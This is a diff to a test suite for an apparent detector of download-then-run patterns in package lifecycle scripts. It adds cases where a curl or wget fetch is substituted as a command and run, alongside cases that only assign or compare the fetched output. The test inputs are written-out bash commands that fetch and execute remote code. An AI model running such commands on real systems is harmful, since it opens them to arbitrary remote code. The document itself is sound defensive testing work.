@@ -137,6 +137,13 @@ describe('download-then-run in lifecycle scripts', () => {
     // A package fetched and installed (pip runs its build).
     expect(piped('#!/bin/bash\ncurl -sL https://tools.example.net/helper-1.0.tar.gz -o /tmp/w/helper-1.0.tar.gz\npip install /tmp/w/*.tar.gz')).toEqual(['https://tools.example.net/helper-1.0.tar.gz']);
   });
+  it('a download substituted as a command of its own ($(curl …), `curl …`) is run; one assigned, echoed or compared is not', () => {
+    expect(piped('#!/bin/bash\n$(curl -fsSL https://tools.example.net/cmd)')).toEqual(['https://tools.example.net/cmd']);
+    expect(piped('#!/bin/bash\nset -e; `wget -qO- https://tools.example.net/cmd`')).toEqual(['https://tools.example.net/cmd']);
+    expect(piped('#!/bin/bash\nif true; then $(curl -s https://tools.example.net/cmd); fi')).toEqual(['https://tools.example.net/cmd']);
+    expect(piped('#!/bin/bash\nVERSION=$(curl -s https://config.example.net/version)\necho $(curl -s https://config.example.net/motd)')).toBeUndefined();
+    expect(piped('#!/bin/bash\nif [ "$(curl -s https://config.example.net/ok)" = ok ]; then echo up; fi\nV=`curl -s https://config.example.net/v`')).toBeUndefined();
+  });
   it('a fetched file only read (a config handed to a program, cat) is not run; a pip download then install is judged by its index', () => {
     expect(piped('#!/bin/bash\ncurl -o /etc/jupyter/conf.json https://config.example.net/conf.json && python3 /opt/app.py --config /etc/jupyter/conf.json')).toBeUndefined();
     expect(piped('#!/bin/bash\naws s3 cp s3://ml-platform-code/env.sh /tmp/env.sh\ncat /tmp/env.sh\nbash /opt/other.sh')).toBeUndefined();
